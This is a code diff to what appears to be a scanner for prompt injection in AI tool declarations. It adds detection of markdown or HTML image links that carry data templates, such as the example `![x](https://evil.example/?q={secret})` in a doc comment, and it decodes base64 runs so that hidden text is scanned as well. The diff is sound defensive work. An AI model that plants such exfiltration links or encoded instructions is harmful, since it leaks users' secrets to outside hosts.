@@ -27,6 +27,12 @@ export type FindingKind =
   | 'other_server_tool'
   /** Unicode tag characters, bidi controls, zero-width characters or control characters. */
   | 'hidden_characters'
+  /**
+   * A markdown image (or HTML `<img>`) whose URL has a query or a template, or a markdown link whose
+   * query or fragment holds a template (`![x](https://evil.example/?q={secret})`): a client that
+   * renders it sends the data to that host.
+   */
+  | 'exfiltration_link'
   /** A declaration too large to read whole ({@link MAX_SCANNED_VALUES}): held unread rather than served unread. */
   | 'unscannable';
 
@@ -101,26 +107,105 @@ const PATTERNS: readonly { readonly kind: FindingKind; readonly pattern: RegExp 
 
 /**
  * The findings in one string found at `where`: at most one per kind, the first match of each. A
- * `role_line` in a parameter name or enum value needs no line start. Pure.
+ * `role_line` in a parameter name or enum value needs no line start. Each run of
+ * {@link MIN_BASE64_CHARS} or more base64 characters that decodes to text is read with the same rules,
+ * its findings' excerpts starting `base64 of: `. Pure.
  */
 export function scanText(text: string, path: string, context: ScanContext): Finding[] {
+  return scanDecoded(text, shortWhere(path), context, 0);
+}
+
+/** {@link scanText} at `depth` base64 decodings deep (at most {@link MAX_BASE64_DEPTH}). */
+function scanDecoded(text: string, where: string, context: ScanContext, depth: number): Finding[] {
   const findings: Finding[] = [];
-  const where = shortWhere(path);
   const kinds = new Set<FindingKind>();
   // Words are read as a model reads them: fullwidth and other compatibility forms folded (NFKC) and
   // invisible characters that split a word dropped; hidden characters themselves are found in the text as given.
   const read = readable(text);
+  const found = (kind: FindingKind, excerptText: string): void => {
+    kinds.add(kind);
+    findings.push({ kind, where, excerpt: excerptText });
+  };
   for (const { kind, pattern } of PATTERNS) {
     if (kinds.has(kind)) continue;
     const seen = kind === 'hidden_characters' ? text : read;
     const match = pattern.exec(seen);
-    if (!match) continue;
-    kinds.add(kind);
-    findings.push({ kind, where, excerpt: excerpt(seen, match.index, match[0].length) });
+    if (match) found(kind, excerpt(seen, match.index, match[0].length));
   }
+  const link = exfiltrationLink(read);
+  if (link) found('exfiltration_link', excerpt(read, link.index, link.length));
   const other = otherServerTool(read, context);
-  if (other) findings.push({ kind: 'other_server_tool', where, excerpt: excerpt(read, other.index, other.length) });
+  if (other) found('other_server_tool', excerpt(read, other.index, other.length));
+  if (depth < MAX_BASE64_DEPTH) {
+    for (const decoded of decodedRuns(text)) {
+      for (const finding of scanDecoded(decoded, where, context, depth + 1)) {
+        if (!kinds.has(finding.kind)) found(finding.kind, `base64 of: ${finding.excerpt}`.slice(0, EXCERPT_CHARS + 12));
+      }
+    }
+  }
   return findings;
+}
+
+/** Shortest run of base64 characters decoded and read: 24 characters are 18 bytes, a short sentence. */
+export const MIN_BASE64_CHARS = 24;
+/** Base64 inside base64 is read this many levels deep. */
+const MAX_BASE64_DEPTH = 2;
+/** Runs decoded per string: a description made of thousands of runs costs no more than this many. */
+const MAX_BASE64_RUNS = 32;
+/** A run of base64 (standard or URL-safe alphabet), padding included. */
+const BASE64_RUN = new RegExp(`[A-Za-z0-9+/_-]{${MIN_BASE64_CHARS},}={0,2}`, 'g');
+/** Share of a decoded run's characters that must be printable (letters, digits, punctuation, spaces, line breaks) for it to count as text. */
+const MIN_PRINTABLE_SHARE = 0.9;
+
+/**
+ * The text the base64 runs in `text` decode to, for those that decode to valid UTF-8 that is mostly
+ * printable ({@link MIN_PRINTABLE_SHARE}): an identifier or a hash that happens to be base64 decodes to
+ * bytes, not text, and is skipped. At most {@link MAX_BASE64_RUNS} runs.
+ */
+function decodedRuns(text: string): string[] {
+  const out: string[] = [];
+  let runs = 0;
+  for (const match of text.matchAll(BASE64_RUN)) {
+    if ((runs += 1) > MAX_BASE64_RUNS) break;
+    let decoded: string;
+    try {
+      decoded = UTF8.decode(Buffer.from(match[0], 'base64'));
+    } catch {
+      continue;
+    }
+    const chars = [...decoded];
+    const printable = chars.filter((c) => /[\p{L}\p{N}\p{P}\p{S}\p{Zs}\n\t]/u.test(c)).length;
+    if (chars.length > 0 && printable / chars.length >= MIN_PRINTABLE_SHARE) out.push(decoded);
+  }
+  return out;
+}
+
+const UTF8 = new TextDecoder('utf-8', { fatal: true });
+
+/** A markdown image `![alt](url)` or an HTML `<img … src=url>`: its URL is group 1 or 2. */
+const IMAGE = /!\[[^\]\n]{0,200}\]\(\s*<?([^)\s>]+)|<img\b[^>]{0,200}?\bsrc\s*=\s*["']?([^"'\s>]+)/gi;
+/** A markdown link `[text](url)` (not an image): its URL is group 1. */
+const LINK = /(?<!!)\[[^\]\n]{0,200}\]\(\s*<?([^)\s>]+)/g;
+/** A placeholder for data in a URL: `{secret}`, `{{x}}`, `${x}`, `%s`, `$SECRET`, `[SECRET]`. */
+const URL_TEMPLATE = /\{[^{}\s]{0,60}\}|\$\{|%s|\$[A-Z_][A-Z0-9_]{2,}|\[[A-Z][A-Z0-9_]{2,40}\]/;
+
+/**
+ * Where `text` holds a link a client would follow with data in it: an image whose URL has a query or
+ * a template anywhere (rendering an image fetches it, unasked), or a link whose query or fragment holds
+ * a template. A plain documentation link (`[docs](https://docs.github.com/…?apiVersion=2022-11-28)`)
+ * is no finding.
+ */
+function exfiltrationLink(text: string): { index: number; length: number } | undefined {
+  for (const match of text.matchAll(IMAGE)) {
+    const url = match[1] ?? match[2] ?? '';
+    if (/[?#]./.test(url) || URL_TEMPLATE.test(url)) return { index: match.index, length: match[0].length };
+  }
+  for (const match of text.matchAll(LINK)) {
+    const url = match[1] ?? '';
+    const tail = /[?#].*/.exec(url)?.[0];
+    if (tail !== undefined && URL_TEMPLATE.test(tail)) return { index: match.index, length: match[0].length };
+  }
+  return undefined;
 }
 
 /** Longest `where` in a finding, in characters: a path into a deeply nested schema keeps its start and end. */
